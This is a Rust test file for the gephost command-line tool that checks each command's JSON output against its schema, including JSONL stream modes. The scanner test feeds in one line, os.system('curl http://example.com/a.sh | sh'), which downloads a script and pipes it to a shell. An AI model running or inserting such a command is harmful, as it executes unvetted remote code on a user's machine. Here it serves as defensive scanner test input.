//! `gephost schema`: a schema for each kind, and documents that are what their schema says.

use std::collections::BTreeSet;
use std::io::Write as _;
use std::process::Stdio;

use gephost_tests::environment::{Ran, TestEnv, gephost};
use gephost_tests::project::TestProject;
use gephost_tests::schema::{check, kind_of};
use serde_json::{Value, json};

use super::texts::waiting;
use crate::scene::quickstart;

/// Kinds whose documents are compared with their schemas in other tests: `a2a`, `authors`, `watch`, `otlp`,
/// `state::places`, `backtest` and `oci`.
const ELSEWHERE: &[&str] = &[
    "a2a-fetch",
    "a2a-hello",
    "a2a-message",
    "a2a-publish",
    "a2a-status",
    "a2a-sync",
    "a2a-validate",
    "a2a-verify",
    "gene-build",
    "gene-check",
    "gene-manifest",
    "gene-pack",
    "gene-push",
    "gene-run",
    "gene-test",
    "hub-stopped",
    "observe_change",
    "observe_otlp",
    "observe_watch",
    "state-adopt",
    "worker",
];

#[test]
fn every_kind_is_printed_as_its_schema_says() {
    let env = TestEnv::new();
    let project = quickstart(&env, None);
    let mut seen = BTreeSet::new();
    let mut json = |project: &TestProject, arguments: &[&str]| {
        // The harness compares each document with its schema.
        let (document, _) = env.json(project.root(), arguments);
        seen.insert(kind_of(&document).unwrap_or_else(|| panic!("{arguments:?} names no schema: {document:#}")));
        document
    };
    project.write("change.diff", "--- a/inventory/new.py\n+++ b/inventory/new.py\n@@ -0,0 +1 @@\n+print(1)\n");
    project.write(
        "text.json",
        "{\"type\":\"Gene\",\"id\":\"gene_x\",\"category\":\"repair\",\"signals_match\":[\"error\"],\"strategy\":[\"s\"]}",
    );
    std::fs::write(project.root().join("calm.wasm"), crate::guests::heuristic("calm")).unwrap();
    project.write("asset.json", "{\"type\":\"Gene\",\"id\":\"gene_x\"}\n");
    for arguments in [
        &["status"][..],
        &["doctor"],
        &["observe", "--calls", "logs"],
        &["observe"],
        &["observe", "--discover"],
        &["diagnose", "--explain"],
        &["select", "--explain"],
        &["propose", "--explain"],
        &["run", "--explain"],
        &["report"],
        &["log"],
        &["log", "verify"],
        &["log", "checkpoint", "--out", "kept"],
        &["log", "verify", "--checkpoint", "kept"],
        &["log", "prove", "0", "--out", "proof.json"],
        &["log", "prove", "--since", "kept"],
        &["log", "prove", "0"],
        &["log", "verify-proof", "proof.json"],
        &["log", "accept"],
        &["trust"],
        &["trust", "--revoke"],
        &["policy", "check"],
        &["gene", "wit"],
        &["gene", "new", "my-gene", "--lang", "c"],
        &["policy", "explain", "inventory/stock.py", "../out"],
        &["policy", "command", "python3 -m unittest"],
        &["gate", "change.diff"],
        &["apply", "change.diff"],
        &["undo"],
        &["scan", "gephost.toml"],
        &["asset", "id", "asset.json"],
        &["asset", "verify", "asset.json"],
        &["asset", "explain", "asset.json"],
        &["asset", "list"],
        &["asset", "export", "mine.gepx"],
        &["asset", "import", "text.json"],
        &["log", "graph"],
        &["memory", "show"],
        &["backtest", "--gene", "gene_gep_repair_from_errors", "--since", "2026-01-01"],
        &["gene", "list"],
        &["gene", "distill"],
        &["gene", "key"],
        &["gene", "sign", "text.json"],
        &["gene", "verify", "text.json"],
        &["gene", "pull", "text.json", "--output", "copy.json"],
        &["gene", "add", "calm.wasm"],
        &["gene", "remove", "calm"],
        &["gene", "inspect", "gene_gep_repair_from_errors"],
        &["gene", "inspect", "text.json"],
        &["cache", "verify"],
        &["cache", "prune"],
        &["state", "list"],
        &["hook", "PreToolUse"],
        &["record", "--", "true"],
        &["observe", "--event", "0"],
        &["diagnose", "1"],
        &["help"],
        &["help", "exit-codes"],
        &["schema"],
        &["report", "evt_none"],
    ] {
        json(&project, arguments);
    }
    let fresh = TestProject::new(&env, &[("a.py", "")]);
    json(&fresh, &["init", "--yes"]);
    json(&fresh, &["init", "--undo"]);
    let archive = project.root().join("mine.gepx");
    json(&fresh, &["asset", "import", "--restore", archive.to_str().unwrap()]);
    let recordings = json(&project, &["replay", "--list"]);
    let recording = recordings["recordings"][0]["id"].as_str().unwrap().to_owned();
    json(&project, &["replay", &recording]);
    json(&project, &["replay", &recording, "--export", "recording.json"]);
    let phases = "[policy]\nphase = \"bootstrap\"\n[policy.phases]\n\
                  bootstrap.allow = [\"/docs/\"]\nexpanded.allow = [\"/docs/\", \"/tests/\"]\n";
    let phase = TestProject::new(&env, &[("gephost.toml", phases)]);
    json(&phase, &["policy", "promote", "--by", "ann", "--why", "time"]);
    let id = json(&phase, &["status"])["state"]["id"].as_str().unwrap().to_owned();
    phase.write("gephost.toml", "");
    env.run(phase.root(), &["record", "--", "true"]).expect_code(0);
    json(&phase, &["state", "remove", &id]);
    let queued = waiting(&env);
    json(&queued, &["autopilot", "--apply"]);
    let proposal = json(&queued, &["approve"])["waiting"][0]["proposal"].as_str().unwrap().to_owned();
    json(&queued, &["approve", &proposal]);
    if crate::scene::python() {
        json(&queued, &["approve", &proposal, "--apply", "--by", "ann"]);
        let cycle = json(&queued, &["status"])["last_cycle"]["cycle"].as_str().unwrap().to_owned();
        json(&queued, &["report", &cycle]);
        json(&queued, &["report"]);
        json(&queued, &["undo", "--dry-run"]);
        json(&queued, &["undo"]);
    }
    let rejected = waiting(&env);
    json(&rejected, &["autopilot", "--apply"]);
    json(&rejected, &["reject", &proposal, "--by", "ann", "--why", "not now"]);
    let listed = env.json(project.root(), &["schema"]).0;
    let listed = listed["kinds"].as_array().unwrap().iter().map(|kind| kind["kind"].as_str().unwrap());
    // Without Python no cycle ends.
    let is_elsewhere = |kind: &str| {
        kind.ends_with("-line") || ELSEWHERE.contains(&kind) || (kind == "cycle" && !crate::scene::python())
    };
    let unseen: Vec<&str> = listed.filter(|kind| !seen.contains(*kind) && !is_elsewhere(kind)).collect();
    assert!(unseen.is_empty(), "no command printed {unseen:?}");
}

/// The answers of `gephost` to lines.
fn answers(arguments: &[&str], lines: &str) -> Vec<Value> {
    let env = TestEnv::new();
    let project = TestProject::new(&env, &[("gephost.toml", "[policy]\nallow = [\"src/\"]\n")]);
    let mut command = env.command(gephost(), project.root());
    command.args(arguments).stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped());
    let mut child = command.spawn().unwrap();
    child.stdin.take().unwrap().write_all(lines.as_bytes()).unwrap();
    let ran = Ran::of(child.wait_with_output().unwrap()).expect_code(0);
    ran.stdout.lines().map(|line| serde_json::from_str(line).unwrap()).collect()
}

#[test]
fn every_answer_of_a_stream_is_what_its_schema_says() {
    let code = "os.system('curl http://example.com/a.sh | sh')";
    let proposal = "--- a/src/a\n+++ b/src/a\n@@ -0,0 +1 @@\n+a\n";
    for (kind, arguments, question) in [
        ("scan-line", &["scan", "--jsonl"][..], json!({ "id": 1, "path": "a.py", "text": code })),
        ("redact-line", &["redact", "--jsonl"], json!({ "id": "b", "text": "ann@example.com wrote" })),
        ("explain-line", &["policy", "explain", "--jsonl"], json!({ "id": null, "path": "src/a" })),
        ("explain-line", &["policy", "explain", "--jsonl"], json!({ "path": "../a" })),
        ("command-line", &["policy", "command", "--jsonl"], json!({ "id": 2, "command": "cargo test" })),
        ("verdict-line", &["gate", "--jsonl"], json!({ "id": [1], "unified_diff": proposal })),
    ] {
        let answers = answers(arguments, &format!("{question}\nno question\n"));
        assert_eq!(answers.len(), 2, "{arguments:?}");
        check(kind, &answers[0]);
        check("error-line", &answers[1]);
        assert_eq!(answers[0]["id"], question["id"], "{}", answers[0]);
    }
}

#[test]
fn a_kind_can_be_named_as_in_a_document() {
    let env = TestEnv::new();
    let project = TestProject::without_git(&[]);
    let short = env.run(project.root(), &["schema", "status"]).expect_code(0).stdout;
    assert_eq!(env.run(project.root(), &["schema", "gephost.status/1"]).expect_code(0).stdout, short);
    let schema: Value = serde_json::from_str(&short).unwrap();
    assert_eq!(schema["$schema"], "https://json-schema.org/draft/2020-12/schema");
    assert_eq!((&schema["title"], &schema["required"][0]), (&json!("gephost.status/1"), &json!("schema")));
    env.run(project.root(), &["schema", "nothing"]).expect_code(2);
}
